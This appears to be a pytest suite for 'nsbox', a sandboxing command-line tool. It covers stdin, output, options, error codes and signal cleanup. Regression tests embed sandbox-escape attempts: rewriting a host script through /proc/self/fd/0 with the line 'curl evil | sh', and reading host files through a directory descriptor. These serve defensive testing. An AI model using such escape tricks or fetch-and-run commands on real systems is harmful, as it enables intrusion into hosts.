"""The command line, run as a person would run it."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

NSBOX = [sys.executable, "-m", "nsbox"]


def nsbox(*args: str, input: str | None = None, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*NSBOX, *args], input=input, capture_output=True, text=True, timeout=timeout)


def test_run_prints_and_exits_with_the_command() -> None:
    r = nsbox("run", "--", "python3", "-c", "print(42)")
    assert (r.returncode, r.stdout, r.stderr) == (0, "42\n", "")
    r = nsbox("run", "--", "sh", "-c", "cat; echo err >&2; exit 3", input="piped in\n")
    assert (r.returncode, r.stdout, r.stderr) == (3, "piped in\n", "err\n")


def test_a_file_given_as_stdin_is_only_read(tmp_path: Path) -> None:
    """`nsbox run ... < script.sh` had handed the sandbox the host's open
    file: it could reopen /proc/self/fd/0 to rewrite the script, and chmod
    it. The command now reads a pipe the file is copied into."""
    script = tmp_path / "setup.sh"
    script.write_text("echo original\n")
    script.chmod(0o644)
    attack = ("readlink /proc/self/fd/0; chmod 777 /proc/self/fd/0 2>/dev/null; "
              "echo 'curl evil | sh' 2>/dev/null > /proc/self/fd/0; head -n1")
    with open(script) as f:
        r = subprocess.run([*NSBOX, "run", "--", "sh", "-c", attack], stdin=f, capture_output=True, text=True,
                           timeout=120)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[0].startswith("pipe:"), r.stdout
    assert script.read_text() == "echo original\n" and script.stat().st_mode & 0o777 == 0o644
    # A large file comes through whole, and a command that reads none of it ends all the same.
    big = tmp_path / "big"
    big.write_bytes(os.urandom(3 << 20))
    with open(big, "rb") as f:
        out = subprocess.run([*NSBOX, "run", "--", "sha256sum"], stdin=f, capture_output=True, timeout=120)
    import hashlib
    assert out.stdout.split()[0].decode() == hashlib.sha256(big.read_bytes()).hexdigest(), out.stderr
    with open(big, "rb") as f:
        out = subprocess.run([*NSBOX, "run", "--", "true"], stdin=f, capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr


async def test_a_directory_given_as_stdin_shows_nothing_of_the_host(tmp_path: Path) -> None:
    """Through the API, a directory's descriptor as stdin had let the
    sandbox read the host's whole tree (/proc/self/fd/0/../..)."""
    import nsbox

    secret = os.urandom(8).hex()
    (tmp_path / "marker").write_text(secret)
    fd = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    out_r, out_w = os.pipe()
    err_r, err_w = os.pipe()
    try:
        async with nsbox.Sandbox() as sb:
            code = await sb.run_forwarded(["sh", "-c", "readlink /proc/self/fd/0; cat /proc/self/fd/0/marker"],
                                          stdin=fd, stdout=out_w, stderr=err_w)
    finally:
        for end in (fd, out_w, err_w):
            os.close(end)
    with os.fdopen(out_r) as f, os.fdopen(err_r) as e:
        out, err = f.read(), e.read()
    assert code != 0 and out.startswith("pipe:") and secret not in out + err, (out, err)


async def test_a_file_stdin_held_by_a_leftover_process_does_not_hold_the_host(tmp_path: Path) -> None:
    """The copy into the pipe waited in a blocking write, and the end of
    the command joined it: a process the command left holding the pipe,
    not reading, froze the host's event loop until it exited."""
    import nsbox

    big = tmp_path / "big"
    big.write_bytes(os.urandom(2 << 20))  # more than a pipe holds
    fd = os.open(big, os.O_RDONLY)
    out = os.open(os.devnull, os.O_WRONLY)
    try:
        async with nsbox.Sandbox() as sb:
            started = time.monotonic()
            code = await sb.run_forwarded(
                ["sh", "-c", "exec 3<&0; (sleep 60 <&3 >/dev/null 2>&1 &); echo started"], stdin=fd, stdout=out)
            # A hang, not a speed: the leftover holds the pipe for 60 s (a
            # blocked event loop cannot time itself out: measured after).
            assert code == 0 and time.monotonic() - started < 30
    finally:
        os.close(fd)
        os.close(out)


def test_run_forwards_large_output_whole() -> None:
    # A first read that fills the read buffer makes nsbox grow the pipe:
    # with output forwarded (not captured) that path must work too.
    r = subprocess.run([*NSBOX, "run", "--", "head", "-c", "3000000", "/dev/zero"], capture_output=True, timeout=120)
    assert (r.returncode, len(r.stdout), r.stderr) == (0, 3000000, b"")


def test_run_options(tmp_path: Path) -> None:
    (tmp_path / "data").write_text("bound\n")
    tmp_path.chmod(0o755)
    r = nsbox("run", "-e", "GREETING=hi there", "-v", f"{tmp_path}:/mnt/host:ro", "-w", "/mnt/host",
              "--tmpfs", "/scratch:size=1m,mode=700",
              "--", "sh", "-c", 'echo "$GREETING"; pwd; cat data; touch x 2>/dev/null || echo read-only; '
                                'stat -f -c %T /scratch; stat -c %a /scratch')
    assert r.stdout == "hi there\n/mnt/host\nbound\nread-only\ntmpfs\n700\n", r.stderr


def test_run_failures_have_messages_and_statuses(tmp_path: Path) -> None:
    cases = [
        (["run", "--", "no-such-command"], 127, "not found"),
        (["run", "--", "/etc/passwd"], 126, "Permission denied"),
        (["run", "-t", "1", "--", "sleep", "30"], 124, "timed out"),
        (["run", "--rootfs", str(tmp_path / "missing"), "--", "true"], 125, "No such file"),
        (["run", "-e", "NOEQUALS", "--", "true"], 2, "KEY=VALUE"),
        (["run", "-v", "/nonexistent-source:/x", "--", "true"], 125, "does not exist"),
        (["run"], 2, "Missing argument"),
        (["run", "--tmpfs", "/x:uid=5", "--", "true"], 2, "tmpfs option 'uid=5' is not supported"),
    ]
    for args, code, message in cases:
        r = nsbox(*args)
        assert r.returncode == code and message in r.stderr, (args, r.returncode, r.stderr)
        assert "Traceback" not in r.stderr


def test_help_and_version() -> None:
    r = nsbox("--help")
    assert r.returncode == 0 and "run" in r.stdout and "import" in r.stdout
    assert nsbox("--version").stdout.startswith("nsbox, version")


def test_sigterm_closes_the_sandbox_as_ctrl_c_does() -> None:
    """A job scheduler's or `timeout`'s SIGTERM: the sandbox is closed and
    its layer removed, status 143 (the default action had left both for
    `nsbox gc`)."""
    from nsbox.host import live

    proc = subprocess.Popen([*NSBOX, "run", "--", "sleep", "60"], stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        mine: list[live.SandboxInfo] = []
        while not mine and time.monotonic() < deadline:
            mine = [i for i in live.entries() if i.owner_pid == proc.pid]
            time.sleep(0.05)
        assert mine, "the sandbox never appeared"
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    finally:
        proc.kill()
    assert (proc.returncode, err) == (143, "nsbox: terminated\n")
    assert live.read(mine[0].id) is None and not os.path.exists(mine[0].layer)
